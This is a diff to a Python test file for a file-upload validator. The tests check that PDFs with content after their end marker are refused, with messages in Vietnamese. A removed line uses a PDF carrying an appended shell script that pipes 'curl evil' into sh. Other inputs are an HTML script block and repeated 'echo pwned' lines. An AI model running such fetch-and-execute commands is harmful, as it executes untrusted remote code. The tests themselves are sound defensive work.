@@ -128,8 +128,10 @@ def test_a_picture_carrying_a_zip_or_a_pdf_is_refused():
 
 
 def test_something_after_the_end_of_a_pdf_is_refused():
-    message = refused("bao-cao.pdf", pdf(CATALOG, PAGES) + b"#!/bin/sh\ncurl evil | sh\n")
-    assert "sau phần kết thúc" in message
+    page = b"<html><body><script>" + b"document.write(1);" * 20 + b"</script></body></html>\n"
+    assert "sau phần kết thúc" in refused("bao-cao.pdf", pdf(CATALOG, PAGES) + page)
+    # a few stray bytes, as some programs leave, are not a second document
+    assert validate_upload(upload("bao-cao.pdf", pdf(CATALOG, PAGES) + b"v2\r\n")) is PDF
     assert "không có phần kết thúc" in refused("bao-cao.pdf", b"%PDF-1.4\n" + b"echo pwned\n" * 200)
 
 
